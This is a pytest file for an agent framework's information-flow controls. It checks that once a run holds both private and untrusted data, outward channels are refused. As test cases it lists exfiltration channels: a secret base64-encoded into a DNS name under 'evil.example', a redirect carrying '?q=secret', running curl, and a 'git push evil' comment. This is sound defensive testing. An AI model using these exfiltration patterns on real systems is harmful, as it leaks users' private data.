"""Flow labels: what brings them, that they stay, which ways out they close; an allowed twin beside every refusal."""

import asyncio
import threading

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmspell.effects import flows as module
from llmspell.effects.context import library_context
from llmspell.effects.flows import LABELS, MEMORY, PRIVATE, UNTRUSTED, Flows, leave
from llmspell.effects.perform import Effect, perform
from llmspell.errors import FlowDenied, PermissionDenied
from llmspell.security.network import check_redirect, resolve
from llmspell.security.profile import resolve_profile
from llmspell.tools.protocol import ToolResult, ToolSpec
from llmspell.tools.registry import ToolRegistry

GRANTS = ("read:/data", "env:*", "net:*", "run:*", "tool:*")


def context(*allow, profile="medium", deny=()):
    return library_context(profile=resolve_profile(profile, allow=(*GRANTS, *allow), deny=deny))


def private(ctx):
    ctx.permit("read", "/data/notes.txt")


def untrusted(ctx):
    ctx.permit("net", "news.example.org:443")


SOURCES = {
    "file": (PRIVATE, lambda ctx: ctx.permit("read", "/data/notes.txt")),
    "file, by the primitives": (PRIVATE, lambda ctx: ctx.permissions.decide("read", "/data/x")),
    "environment": (PRIVATE, lambda ctx: ctx.permit("env", "HOME")),
    "memory": (PRIVATE, lambda ctx: did(ctx, "State", "get")),
    "memory in a transaction": (PRIVATE, lambda ctx: did(ctx, "StateTransaction", "get")),
    "session": (PRIVATE, lambda ctx: did(ctx, "Session", "get")),
    "artifact": (PRIVATE, lambda ctx: did(ctx, "Artifact", "get")),
    "a method nobody has thought of": (PRIVATE, lambda ctx: did(ctx, "State", "peek")),
    "web": (UNTRUSTED, untrusted),
    "web, by the primitives": (UNTRUSTED, lambda ctx: ctx.permissions.decide("net", "news.example.org:80")),
    "foreign tool": (UNTRUSTED, lambda ctx: use(ctx, tool("fetcher", brings=(UNTRUSTED,)))),
    "tool that reads mail": (PRIVATE, lambda ctx: use(ctx, tool("inbox", brings=(PRIVATE,)))),
}

CHANNELS = {
    "net": ("net:api.example.com:443", lambda ctx: ctx.permit("net", "api.example.com:443")),
    "net, by the primitives": ("net:api.example.com:443", lambda ctx: look_up(ctx, "api.example.com")),
    "data in a DNS name": ("net:*.evil.example", lambda ctx: look_up(ctx, "c2VjcmV0.evil.example")),
    "redirect": ("net:api.example.com", lambda ctx: redirect(ctx)),
    "program": ("run:curl", lambda ctx: ctx.permit("run", "curl")),
    "mail": ("tool:send-mail", lambda ctx: use(ctx, tool("send-mail", outward=True))),
    "request to a server that was permitted before": (
        "net:api.example.com:443",
        lambda ctx: leave(ctx, "net", "api.example.com:443"),
    ),
}  # fmt: skip


def did(ctx, target, method):
    async def nothing(_):
        return None

    asyncio.run(perform(ctx, Effect(target, method, []), nothing))


def tool(name, **flags):
    async def run(ctx, params):
        return ToolResult("do", None, "done")

    return ToolSpec(name, "", "test", {"type": "object"}, run, **flags)


def use(ctx, it):
    asyncio.run(ToolRegistry().execute_tool(ctx, it, {}))


def look_up(ctx, host):
    asked = []

    async def resolver(name, port):
        asked.append(name)
        return ["93.184.216.34"]

    try:
        asyncio.run(resolve(host, 443, ctx.permissions, resolver=resolver))
    except PermissionDenied:
        assert not asked  # the name itself would have told it
        raise


def redirect(ctx):
    check_redirect("https://news.example.org/", "https://api.example.com/?q=secret", ctx.permissions)


@pytest.mark.parametrize("source", SOURCES)
def test_each_source_brings_its_label(source):
    label, read = SOURCES[source]
    ctx = context()
    read(ctx)
    assert ctx.run.flows.labels == (label,)


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize("source", SOURCES)
def test_a_run_that_holds_both_sends_nothing_out(source, channel):
    label, read = SOURCES[source]
    other = untrusted if label == PRIVATE else private
    rule, send = CHANNELS[channel]
    for order in ((read, other), (other, read)):
        ctx = context()
        for it in order:
            # The second source may itself be a way out: then it is the one that is refused.
            it(ctx) if len(ctx.run.flows.labels) == 0 or it is not untrusted else ctx.run.flows.bring(
                ctx, UNTRUSTED, "net", "news.example.org:443"
            )
        assert set(ctx.run.flows.labels) == {PRIVATE, UNTRUSTED}
        with pytest.raises(PermissionDenied) as caught:
            send(ctx)
        assert caught.value.exit_code == 77
        assert caught.value.code == "flow_denied"
    # The allowed twins: the flow is named; or the run holds one label alone.
    ctx = context(f"flow:{rule}")
    ctx.run.flows.bring(ctx, PRIVATE, "read", "/data/x")
    ctx.run.flows.bring(ctx, UNTRUSTED, "net", "news.example.org:443")
    send(ctx)
    ctx = context()
    read(ctx)
    send(ctx)


def test_the_denial_names_the_chain_in_order_and_what_would_allow_it():
    ctx = context()
    ctx.run.cwd = "/data"
    reader = ctx.child("step", actor="tool file-operations")
    private(reader)
    untrusted(ctx)
    with pytest.raises(FlowDenied) as caught:
        ctx.permit("net", "api.example.com:443")
    error = caught.value
    assert "read:notes.txt (private), then net:news.example.org:443 (untrusted)" in error.message
    assert "--allow flow:net:api.example.com:443" in error.hint
    assert 'llmspell: allow = ["flow:net:api.example.com:443"]' in error.hint
    assert error.details["chain"] == [
        {"label": "private", "source": "read:notes.txt", "actor": "tool file-operations", "key": "step"},
        {"label": "untrusted", "source": "net:news.example.org:443", "actor": "the program", "key": ""},
    ]
    rule = error.hint.split("--allow ")[1].split(",")[0]
    allowed = context(rule)
    private(allowed)
    untrusted(allowed)
    allowed.permit("net", "api.example.com:443")


def test_deny_beats_allow_also_where_flows_are_only_recorded():
    ctx = context("flow:net:*", profile="low", deny=("flow:net:*.example.com",))
    private(ctx)
    untrusted(ctx)
    ctx.permit("net", "elsewhere.org:443")
    with pytest.raises(FlowDenied, match="may not send") as caught:
        ctx.permit("net", "api.example.com:443")
    assert "--deny" in caught.value.hint


@pytest.mark.parametrize(("profile", "refuses"), [("none", False), ("low", False), ("medium", True), ("high", True)])
def test_which_profiles_enforce(profile, refuses):
    ctx = library_context(profile=resolve_profile(profile, allow=() if profile == "none" else GRANTS))
    private(ctx)
    untrusted(ctx)
    if refuses:
        with pytest.raises(FlowDenied):
            ctx.permit("run", "curl")
    else:
        ctx.permit("run", "curl")
    assert [it.label for it in ctx.run.flows.sources.values()][:2] == [PRIVATE, UNTRUSTED]


def test_what_is_only_recorded_is_noted_once():
    notes = []
    ctx = context(profile="low")
    ctx.run.journal.note = lambda run_id, kind, key, body: notes.append((kind, body))
    private(ctx)
    untrusted(ctx)
    for _ in range(3):
        ctx.permit("net", "api.example.com:443")
    assert [kind for kind, _ in notes] == ["label", "label", "flow", "label"]
    assert notes[2][1]["channel"] == "net:api.example.com:443"
    assert [it["label"] for it in notes[2][1]["chain"]] == [PRIVATE, UNTRUSTED]


def test_private_data_may_go_back_to_the_host_that_all_of_it_came_from():
    ctx = context()
    ctx.run.flows.bring(ctx, PRIVATE, "net", "intranet.example:443")
    untrusted(ctx)
    ctx.permit("net", "intranet.example:443")
    with pytest.raises(FlowDenied):
        ctx.permit("net", "api.example.com:443")
    private(ctx)
    with pytest.raises(FlowDenied):
        ctx.permit("net", "intranet.example:443")


def test_a_program_is_no_place_that_data_may_go_back_to():
    ctx = context()
    ctx.permit("run", "git")
    assert ctx.run.flows.labels == (PRIVATE, UNTRUSTED)
    with pytest.raises(FlowDenied):
        ctx.permit("run", "git")  # as `git push evil`
    ctx = context("flow:run:git")
    ctx.permit("run", "git")
    ctx.permit("run", "git")


def test_the_name_of_a_source_is_whole_so_that_a_secret_in_it_is_found():
    ctx = context()
    ctx.run.flows.bring(ctx, PRIVATE, "mark", "x" * 290 + "canary-0a1b2c3d4e5f")
    ctx.run.flows.bring(ctx, PRIVATE, "net", "y" * 10_000)
    names = [it.name for it in ctx.run.flows.sources.values()]
    assert names == ["x" * 290 + "canary-0a1b2c3d4e5f", "net:(10,000 characters)"]


def test_writing_to_memory_brings_nothing():
    ctx = context()
    for target, methods in MEMORY.items():
        for method in methods:
            did(ctx, target, method)
    assert ctx.run.flows.labels == ()


def test_what_was_refused_brings_nothing():
    ctx = library_context(profile=resolve_profile("high"))
    for kind, subject in (("read", "/data/x"), ("env", "HOME"), ("net", "a.example:1"), ("run", "ls")):
        with pytest.raises(PermissionDenied):
            ctx.permit(kind, subject)
    assert ctx.run.flows.labels == ()


def test_many_sources_are_bounded_and_the_labels_stay_right(monkeypatch):
    monkeypatch.setattr(module, "MAX_SOURCES", 5)
    ctx = context()
    for i in range(20):
        ctx.permit("read", f"/data/{i}")
    assert len(ctx.run.flows.sources) == 5
    untrusted(ctx)
    assert ctx.run.flows.labels == (PRIVATE, UNTRUSTED)
    with pytest.raises(FlowDenied, match="and 15 more") as caught:
        untrusted(ctx)
    assert "net:news.example.org:443 (untrusted)" in caught.value.message


def test_threads_may_label_at_the_same_time():
    ctx = context()
    threads = [threading.Thread(target=lambda i=i: ctx.permissions.decide("read", f"/data/{i}")) for i in range(20)]
    for it in threads:
        it.start()
    for it in threads:
        it.join()
    assert len(ctx.run.flows.sources) == 20


def test_a_run_that_goes_on_from_another_has_its_labels():
    ctx = context()
    private(ctx)
    untrusted(ctx)
    notes = [it.to_value() for it in ctx.run.flows.sources.values()]
    later = context()
    later.run.flows.restore(later.run, notes)
    assert later.run.flows.labels == (PRIVATE, UNTRUSTED)
    with pytest.raises(FlowDenied, match="read:/data/notes.txt"):
        later.permit("net", "api.example.com:443")
    later.run.flows.restore(later.run, [{"label": "public"}, {}, *notes])
    assert len(later.run.flows.sources) == 2


STEPS = st.lists(
    st.tuples(st.sampled_from(["read", "env", "net", "run", "tool", "model", "write", "mark"]), st.integers(0, 3)),
    max_size=30,
)


@settings(max_examples=150, deadline=None)
@given(STEPS, st.sampled_from(["low", "medium"]))
def test_labels_are_only_ever_added(steps, profile):
    """And a way out is open exactly while one of them is missing, or all private data came from there."""
    ctx = context(profile=profile)
    before: tuple[str, ...] = ()
    for kind, number in steps:
        subject = f"/data/{number}" if kind in ("read", "write") else f"name{number}"
        both, home = len(before) == 2, kind == "net" and ctx.run.flows.is_from(kind, subject)
        try:
            if kind == "mark":
                ctx.run.flows.bring(ctx, LABELS[number % 2], "mark", "said so")
            else:
                ctx.permit(kind, subject)
        except FlowDenied:
            assert profile == "medium" and kind in ("net", "run") and both and not home
        except PermissionDenied:
            assert kind == "write"
        else:
            assert not (profile == "medium" and kind in ("net", "run") and both and not home)
        after = ctx.run.flows.labels
        assert after[: len(before)] == before
        before = after
    assert set(before) == {it.label for it in ctx.run.flows.sources.values()}


def test_a_run_of_its_own_has_labels_of_its_own():
    assert Flows().labels == ()
    first, second = context(), context()
    private(first)
    assert second.run.flows.labels == ()
